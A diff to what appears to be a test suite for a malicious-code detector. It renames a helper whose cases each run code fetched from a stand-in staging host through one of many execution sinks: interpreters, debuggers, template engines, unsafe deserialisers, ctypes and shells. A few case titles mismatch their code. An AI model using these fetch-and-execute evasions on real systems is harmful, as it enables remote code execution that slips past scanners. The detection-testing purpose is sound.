@@ -12,7 +12,7 @@ _SAVE = "import urllib.request\nurllib.request.urlretrieve('https://stage.exampl
 _HIDDEN = f"import base64\nX = base64.b64decode('{b64(CODE)}').decode()\n"
 
 
-def _fetched(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
+def fetched(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
     """A runner that is handed X, which was fetched at import; the twin hands it what its caller gives."""
     code = dedent(code).lstrip("\n")
     return evasion(title, _GET + code, f"def honest(X):\n{indent(code, '    ')}", verdict)
@@ -32,14 +32,14 @@ def _saved(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
 
 
 CASES = (
-    _fetched(
+    fetched(
         "InteractiveInterpreter.runcode",
         """
         import code
         code.InteractiveInterpreter().runcode(compile(X, 'x', 'exec'))
         """,
     ),
-    _fetched(
+    fetched(
         "InteractiveInterpreter's own class",
         """
         import code
@@ -48,7 +48,7 @@ CASES = (
         C().runsource(X, 'x', 'exec')
         """,
     ),
-    _fetched(
+    fetched(
         "InteractiveConsole.push, line by line",
         """
         import code
@@ -57,7 +57,7 @@ CASES = (
             c.push(line)
         """,
     ),
-    _fetched(
+    fetched(
         "code.interact with a reader",
         """
         import code
@@ -65,14 +65,14 @@ CASES = (
         code.interact(readfunc=lambda prompt='': next(lines), banner='')
         """,
     ),
-    _fetched(
+    fetched(
         "codeop compiles",
         """
         import codeop
         exec(codeop.compile_command(X, 'x', 'exec'))
         """,
     ),
-    _fetched(
+    fetched(
         "codeop.CommandCompiler",
         """
         import codeop
@@ -80,7 +80,7 @@ CASES = (
         eval(c(X, symbol='exec'))
         """,
     ),
-    _fetched(
+    fetched(
         "ast parsed and compiled",
         """
         import ast
@@ -88,14 +88,14 @@ CASES = (
         exec(compile(tree, 'x', 'exec'))
         """,
     ),
-    _fetched(
+    fetched(
         "function of a compiled text",
         """
         import types
         types.FunctionType(compile(X, 'x', 'exec'), {'__builtins__': __builtins__})()
         """,
     ),
-    _fetched(
+    fetched(
         "a function's code is replaced",
         """
         def f():
@@ -104,7 +104,7 @@ CASES = (
         f()
         """,
     ),
-    _fetched(
+    fetched(
         "a function's code by replace of constants",
         """
         def f():
@@ -113,7 +113,7 @@ CASES = (
         f()
         """,
     ),
-    _fetched(
+    fetched(
         "builtins looked up by a loop",
         """
         import builtins
@@ -122,77 +122,77 @@ CASES = (
                 getattr(builtins, n)(X)
         """,
     ),
-    _fetched(
+    fetched(
         "bdb",
         """
         import bdb
         bdb.Bdb().run(X)
         """,
     ),
-    _fetched(
+    fetched(
         "bdb.set_trace's runeval",
         """
         import bdb
         bdb.Bdb().runeval(X)
         """,
     ),
-    _fetched(
+    fetched(
         "pdb.Pdb.runctx",
         """
         import pdb
         pdb.Pdb(nosigint=True).runctx(X, {}, {})
         """,
     ),
-    _fetched(
+    fetched(
         "pdb's commands",
         """
         import io, pdb
         pdb.Pdb(stdin=io.StringIO(X)).set_trace()
         """,
     ),
-    _fetched(
+    fetched(
         "cProfile's object runctx",
         """
         import cProfile
         cProfile.Profile().runctx(X, {}, {})
         """,
     ),
-    _fetched(
+    fetched(
         "profile.Profile.run",
         """
         import profile
         profile.Profile().run(X)
         """,
     ),
-    _fetched(
+    fetched(
         "trace.Trace.runctx",
         """
         import trace
         trace.Trace(count=False, trace=False).runctx(X, {}, {})
         """,
     ),
-    _fetched(
+    fetched(
         "timeit, setup by keyword",
         """
         import timeit
         timeit.timeit('pass', setup=X, number=1)
         """,
     ),
-    _fetched(
+    fetched(
         "timeit.Timer.timeit",
         """
         from timeit import Timer
         Timer(X).timeit(1)
         """,
     ),
-    _fetched(
+    fetched(
         "timeit's main",
         """
         import timeit
         timeit.main(['-n', '1', X])
         """,
     ),
-    _fetched(
+    fetched(
         "doctest.testmod of an own module",
         """
         import doctest, types
@@ -201,7 +201,7 @@ CASES = (
         doctest.testmod(m)
         """,
     ),
-    _fetched(
+    fetched(
         "doctest parser and runner",
         """
         import doctest
@@ -209,28 +209,28 @@ CASES = (
         doctest.DocTestRunner().run(t)
         """,
     ),
-    _fetched(
+    fetched(
         "doctest debug_src",
         """
         import doctest
         doctest.debug_src(X)
         """,
     ),
-    _fetched(
+    fetched(
         "namedtuple of a text",
         """
         import collections
         collections.namedtuple('A', 'x', module=eval(X))
         """,
     ),
-    _fetched(
+    fetched(
         "typing's forward reference",
         """
         import typing
         typing.ForwardRef(X)._evaluate({}, {}, frozenset())
         """,
     ),
-    _fetched(
+    fetched(
         "typing.get_type_hints",
         """
         import typing
@@ -240,7 +240,7 @@ CASES = (
         typing.get_type_hints(f)
         """,
     ),
-    _fetched(
+    fetched(
         "inspect.signature with eval_str",
         """
         import inspect
@@ -250,7 +250,7 @@ CASES = (
         inspect.signature(f, eval_str=True)
         """,
     ),
-    _fetched(
+    fetched(
         "gettext's plural form",
         """
         import gettext
@@ -258,7 +258,7 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _fetched(
+    fetched(
         "logging's configuration",
         """
         import configparser, io, logging.config
@@ -267,14 +267,14 @@ CASES = (
         logging.config.fileConfig(c)
         """,
     ),
-    _fetched(
+    fetched(
         "logging's dictionary",
         """
         import json, logging.config
         logging.config.dictConfig(json.loads(X))
         """,
     ),
-    _fetched(
+    fetched(
         "rlcompleter",
         """
         import rlcompleter
@@ -282,14 +282,14 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _fetched(
+    fetched(
         "turtle of Tcl",
         """
         import tkinter
         tkinter.Tcl().eval(X)
         """,
     ),
-    _fetched(
+    fetched(
         "Tk's evalfile by createfilehandler",
         """
         import tkinter
@@ -297,35 +297,35 @@ CASES = (
         t.tk.eval(X)
         """,
     ),
-    _fetched(
+    fetched(
         "Jinja2 template",
         """
         import jinja2
         jinja2.Template(X).render()
         """,
     ),
-    _fetched(
+    fetched(
         "Jinja2 environment",
         """
         from jinja2 import Environment
         Environment().from_string(X).render()
         """,
     ),
-    _fetched(
+    fetched(
         "Mako",
         """
         from mako.template import Template
         Template(X).render()
         """,
     ),
-    _fetched(
+    fetched(
         "Chameleon",
         """
         from chameleon import PageTemplate
         PageTemplate(X)()
         """,
     ),
-    _fetched(
+    fetched(
         "Django's template",
         """
         from django.template import Template, Context
@@ -333,21 +333,21 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _fetched(
+    fetched(
         "tornado's template",
         """
         from tornado import template
         template.Template(X).generate()
         """,
     ),
-    _fetched(
+    fetched(
         "bottle's template",
         """
         import bottle
         bottle.template(X)
         """,
     ),
-    _fetched(
+    fetched(
         "numexpr",
         """
         import numexpr
@@ -355,98 +355,98 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _fetched(
+    fetched(
         "pandas.eval",
         """
         import pandas as pd
         pd.eval(X, engine='python')
         """,
     ),
-    _fetched(
+    fetched(
         "DataFrame.query",
         """
         import pandas as pd
         pd.DataFrame().query(X, engine='python')
         """,
     ),
-    _fetched(
+    fetched(
         "sympy",
         """
         import sympy
         sympy.sympify(X)
         """,
     ),
-    _fetched(
+    fetched(
         "sympy's parser",
         """
         from sympy.parsing.sympy_parser import parse_expr
         parse_expr(X)
         """,
     ),
-    _fetched(
+    fetched(
         "yaml.load with a loader",
         """
         import yaml
         yaml.load(X, Loader=yaml.Loader)
         """,
     ),
-    _fetched(
+    fetched(
         "yaml.load, UnsafeLoader",
         """
         from yaml import load, UnsafeLoader
         load(X, UnsafeLoader)
         """,
     ),
-    _fetched(
+    fetched(
         "yaml.full_load_all",
         """
         import yaml
         list(yaml.unsafe_load_all(X))
         """,
     ),
-    _fetched(
+    fetched(
         "ruamel",
         """
         from ruamel.yaml import YAML
         YAML(typ='unsafe').load(X)
         """,
     ),
-    _fetched(
+    fetched(
         "jsonpickle's unpickler",
         """
         import jsonpickle.unpickler, json
         jsonpickle.unpickler.Unpickler().restore(json.loads(X))
         """,
     ),
-    _fetched(
+    fetched(
         "dill.loads",
         """
         import dill
         dill.loads(X.encode())
         """,
     ),
-    _fetched(
+    fetched(
         "cloudpickle",
         """
         import cloudpickle as cp
         cp.loads(X.encode())
         """,
     ),
-    _fetched(
+    fetched(
         "torch.load",
         """
         import io, torch
         torch.load(io.BytesIO(X.encode()), weights_only=False)
         """,
     ),
-    _fetched(
+    fetched(
         "numpy.load with pickles",
         """
         import io, numpy as np
         np.load(io.BytesIO(X.encode()), allow_pickle=True)
         """,
     ),
-    _fetched(
+    fetched(
         "shelve of a fetched file",
         """
         import shelve
@@ -454,35 +454,35 @@ CASES = (
         shelve.open('/tmp/s')['a']
         """,
     ),
-    _fetched(
+    fetched(
         "multiprocessing's reducer",
         """
         from multiprocessing.reduction import ForkingPickler
         ForkingPickler.loads(X.encode())
         """,
     ),
-    _fetched(
+    fetched(
         "pickle through pickletools' optimum",
         """
         import pickle, pickletools
         pickle.loads(pickletools.optimize(X.encode()))
         """,
     ),
-    _fetched(
+    fetched(
         "pandas.read_pickle of a buffer",
         """
         import io, pandas
         pandas.read_pickle(io.BytesIO(X.encode()))
         """,
     ),
-    _fetched(
+    fetched(
         "joblib of a buffer",
         """
         import io, joblib
         joblib.load(io.BytesIO(X.encode()))
         """,
     ),
-    _fetched(
+    fetched(
         "a loader of one's own",
         """
         import importlib.abc, importlib.util
@@ -496,7 +496,7 @@ CASES = (
         spec.loader.exec_module(m)
         """,
     ),
-    _fetched(
+    fetched(
         "an inspect loader's get_source",
         """
         import importlib.abc, importlib.machinery, sys
@@ -509,14 +509,14 @@ CASES = (
         import hid
         """,
     ),
-    _fetched(
+    fetched(
         "source_to_code",
         """
         import importlib.abc
         exec(importlib.abc.InspectLoader.source_to_code(X))
         """,
     ),
-    _fetched(
+    fetched(
         "SourceLoader.source_to_code",
         """
         import importlib.machinery, types
@@ -524,7 +524,7 @@ CASES = (
         exec(code, types.ModuleType('a').__dict__)
         """,
     ),
-    _fetched(
+    fetched(
         "a module in sys.modules",
         """
         import sys, types
@@ -533,49 +533,49 @@ CASES = (
         sys.modules['hid'] = m
         """,
     ),
-    _fetched(
+    fetched(
         "runpy._run_code",
         """
         import runpy
         runpy._run_module_code(compile(X, 'x', 'exec'))
         """,
     ),
-    _fetched(
+    fetched(
         "subinterpreter",
         """
         import _xxsubinterpreters as si
         si.run_string(si.create(), X)
         """,
     ),
-    _fetched(
+    fetched(
         "subinterpreter by name",
         """
         import _interpreters
         _interpreters.exec(_interpreters.create(), X)
         """,
     ),
-    _fetched(
+    fetched(
         "subinterpreter of test.support",
         """
         from test.support.script_helper import assert_python_ok
         assert_python_ok('-c', X)
         """,
     ),
-    _fetched(
+    fetched(
         "C's PyRun_SimpleString",
         """
         import ctypes
         ctypes.pythonapi.PyRun_SimpleString(X.encode())
         """,
     ),
-    _fetched(
+    fetched(
         "C's PyRun_String",
         """
         import ctypes
         ctypes.pythonapi.PyRun_SimpleStringFlags(ctypes.c_char_p(X.encode()), None)
         """,
     ),
-    _fetched(
+    fetched(
         "C's Py_CompileString",
         """
         import ctypes
@@ -584,7 +584,7 @@ CASES = (
         exec(api.Py_CompileString(X.encode(), b'x', 257))
         """,
     ),
-    _fetched(
+    fetched(
         "cffi compiles C",
         """
         import cffi
@@ -593,14 +593,14 @@ CASES = (
         f.compile()
         """,
     ),
-    _fetched(
+    fetched(
         "cppyy",
         """
         import cppyy
         cppyy.cppdef(X)
         """,
     ),
-    _fetched(
+    fetched(
         "numba's llvm",
         """
         import llvmlite.binding as llvm
@@ -608,21 +608,21 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _fetched(
+    fetched(
         "IPython's run_cell",
         """
         from IPython import get_ipython
         get_ipython().run_cell(X)
         """,
     ),
-    _fetched(
+    fetched(
         "IPython's own shell",
         """
         from IPython.core.interactiveshell import InteractiveShell
         InteractiveShell.instance().run_cell(X)
         """,
     ),
-    _fetched(
+    fetched(
         "nbconvert executes",
         """
         import nbformat
@@ -630,21 +630,21 @@ CASES = (
         ExecutePreprocessor().preprocess(nbformat.reads(X, 4))
         """,
     ),
-    _fetched(
+    fetched(
         "js2py",
         """
         import js2py
         js2py.eval_js(X)
         """,
     ),
-    _fetched(
+    fetched(
         "execjs",
         """
         import execjs
         execjs.eval(X)
         """,
     ),
-    _fetched(
+    fetched(
         "PyMiniRacer",
         """
         from py_mini_racer import MiniRacer
@@ -652,98 +652,98 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _fetched(
+    fetched(
         "lua",
         """
         import lupa
         lupa.LuaRuntime().execute(X)
         """,
     ),
-    _fetched(
+    fetched(
         "R",
         """
         import rpy2.robjects as ro
         ro.r(X)
         """,
     ),
-    _fetched(
+    fetched(
         "Perl by its option",
         """
         import subprocess
         subprocess.run(['perl', '-e', X])
         """,
     ),
-    _fetched(
+    fetched(
         "node by its standard input",
         """
         import subprocess
         subprocess.run(['node'], input=X, text=True)
         """,
     ),
-    _fetched(
+    fetched(
         "node by its option",
         """
         import subprocess
         subprocess.run(['node', '-e', X])
         """,
     ),
-    _fetched(
+    fetched(
         "AppleScript",
         """
         import subprocess
         subprocess.run(['osascript', '-e', X])
         """,
     ),
-    _fetched(
+    fetched(
         "shell by option",
         """
         import subprocess
         subprocess.run(['bash', '-c', X])
         """,
     ),
-    _fetched(
+    fetched(
         "shell=True",
         """
         import subprocess
         subprocess.Popen(X, shell=True)
         """,
     ),
-    _fetched(
+    fetched(
         "executable by keyword",
         """
         import subprocess
         subprocess.Popen(args=X, executable='/bin/sh', shell=True)
         """,
     ),
-    _fetched(
+    fetched(
         "pty",
         """
         import pty
         pty.spawn(['sh', '-c', X])
         """,
     ),
-    _fetched(
+    fetched(
         "posix_spawn",
         """
         import os
         os.posix_spawn('/bin/sh', ['sh', '-c', X], {})
         """,
     ),
-    _fetched(
+    fetched(
         "execl by its arguments",
         """
         import os
         os.execl('/bin/sh', 'sh', '-c', X)
         """,
     ),
-    _fetched(
+    fetched(
         "python -c of a list",
         """
         import subprocess, sys
         subprocess.Popen([sys.executable, '-c', X])
         """,
     ),
-    _fetched(
+    fetched(
         "python by standard input",
         """
         import subprocess, sys
@@ -751,28 +751,28 @@ CASES = (
         p.communicate(X.encode())
         """,
     ),
-    _fetched(
+    fetched(
         "PYTHONSTARTUP's environment and -c",
         """
         import os, subprocess, sys
         subprocess.Popen([sys.executable, '-c', 'import os; exec(os.environ["X"])'], env={'X': X})
         """,
     ),
-    _fetched(
+    fetched(
         "asyncio's shell",
         """
         import asyncio
         asyncio.run(asyncio.create_subprocess_shell(X))
         """,
     ),
-    _fetched(
+    fetched(
         "multiprocessing with exec",
         """
         import multiprocessing
         multiprocessing.Process(target=exec, args=(X,)).start()
         """,
     ),
-    _fetched(
+    fetched(
         "a pool's map of eval",
         """
         from concurrent.futures import ThreadPoolExecutor
@@ -780,14 +780,14 @@ CASES = (
             p.submit(exec, X)
         """,
     ),
-    _fetched(
+    fetched(
         "WMI",
         """
         import wmi
         wmi.WMI().Win32_Process.Create(CommandLine=X)
         """,
     ),
-    _fetched(
+    fetched(
         "COM's script control",
         """
         import win32com.client as w
@@ -796,14 +796,14 @@ CASES = (
         c.Eval(X)
         """,
     ),
-    _fetched(
+    fetched(
         "COM's shell",
         """
         from win32com.client import Dispatch
         Dispatch('WScript.Shell').Exec(X)
         """,
     ),
-    _fetched(
+    fetched(
         "clr",
         """
         import clr
@@ -811,49 +811,49 @@ CASES = (
         Process.Start('cmd', '/c ' + X)
         """,
     ),
-    _fetched(
+    fetched(
         "jpype",
         """
         import jpype
         jpype.java.lang.Runtime.getRuntime().exec(X)
         """,
     ),
-    _fetched(
+    fetched(
         "fabric's local",
         """
         from fabric.api import local
         local(X)
         """,
     ),
-    _fetched(
+    fetched(
         "sh by attribute",
         """
         import sh
         sh.Command('bash')('-c', X)
         """,
     ),
-    _fetched(
+    fetched(
         "plumbum by name",
         """
         from plumbum import local
         local['bash']('-c', X)
         """,
     ),
-    _fetched(
+    fetched(
         "delegator",
         """
         import delegator
         delegator.run(X)
         """,
     ),
-    _fetched(
+    fetched(
         "setuptools' spawn",
         """
         from distutils.spawn import spawn
         spawn(['sh', '-c', X])
         """,
     ),
-    _fetched(
+    fetched(
         "distutils' run_setup",
         """
         from distutils.core import run_setup
@@ -861,7 +861,7 @@ CASES = (
         run_setup('/tmp/setup.py')
         """,
     ),
-    _fetched(
+    fetched(
         "sqlite's extension",
         """
         import sqlite3
@@ -871,7 +871,7 @@ CASES = (
         c.load_extension('/tmp/x.so')
         """,
     ),
-    _fetched(
+    fetched(
         "SQL function of exec",
         """
         import sqlite3
@@ -880,7 +880,7 @@ CASES = (
         c.execute('select f(?)', (X,))
         """,
     ),
-    _fetched(
+    fetched(
         "string.Formatter's own get_field",
         """
         import string
@@ -890,14 +890,14 @@ CASES = (
         F().format('{' + X + '}')
         """,
     ),
-    _fetched(
+    fetched(
         "re.sub with exec",
         """
         import re
         re.sub('(?s).+', lambda m: str(exec(m.group())), X)
         """,
     ),
-    _fetched(
+    fetched(
         "optparse's callback",
         """
         import argparse
@@ -906,7 +906,7 @@ CASES = (
         p.parse_args(['-x', X])
         """,
     ),
-    _fetched(
+    fetched(
         "argparse's type eval",
         """
         import argparse
@@ -915,28 +915,28 @@ CASES = (
         p.parse_args([X])
         """,
     ),
-    _fetched(
+    fetched(
         "json's hook",
         """
         import json
         json.loads(X, object_hook=lambda d: exec(d['c']))
         """,
     ),
-    _fetched(
+    fetched(
         "json's parse_constant",
         """
         import json
         json.loads(X, parse_float=eval)
         """,
     ),
-    _fetched(
+    fetched(
         "csv with converters",
         """
         import io, pandas
         pandas.read_csv(io.StringIO(X), converters={'a': eval})
         """,
     ),
-    _fetched(
+    fetched(
         "sqlite's converter",
         """
         import sqlite3
@@ -944,7 +944,7 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _fetched(
+    fetched(
         "cmd's shell",
         """
         import cmd
@@ -954,7 +954,7 @@ CASES = (
         C().onecmd(X)
         """,
     ),
-    _fetched(
+    fetched(
         "sched",
         """
         import sched
@@ -963,7 +963,7 @@ CASES = (
         s.run()
         """,
     ),
-    _fetched(
+    fetched(
         "weakref's finalizer",
         """
         import weakref
@@ -972,7 +972,7 @@ CASES = (
         weakref.finalize(A(), exec, X)
         """,
     ),
-    _fetched(
+    fetched(
         "a display hook",
         """
         import sys
@@ -980,7 +980,7 @@ CASES = (
         sys.displayhook(X)
         """,
     ),
-    _fetched(
+    fetched(
         "functools.singledispatch",
         """
         import functools
@@ -988,21 +988,21 @@ CASES = (
         f(X)
         """,
     ),
-    _fetched(
+    fetched(
         "operator.call",
         """
         import operator
         operator.call(exec, X)
         """,
     ),
-    _fetched(
+    fetched(
         "unittest's mock",
         """
         from unittest import mock
         mock.Mock(side_effect=exec)(X)
         """,
     ),
-    _fetched(
+    fetched(
         "contextlib's callback",
         """
         import contextlib
@@ -1010,7 +1010,7 @@ CASES = (
             s.callback(exec, X)
         """,
     ),
-    _fetched(
+    fetched(
         "codecs' search function",
         """
         import codecs
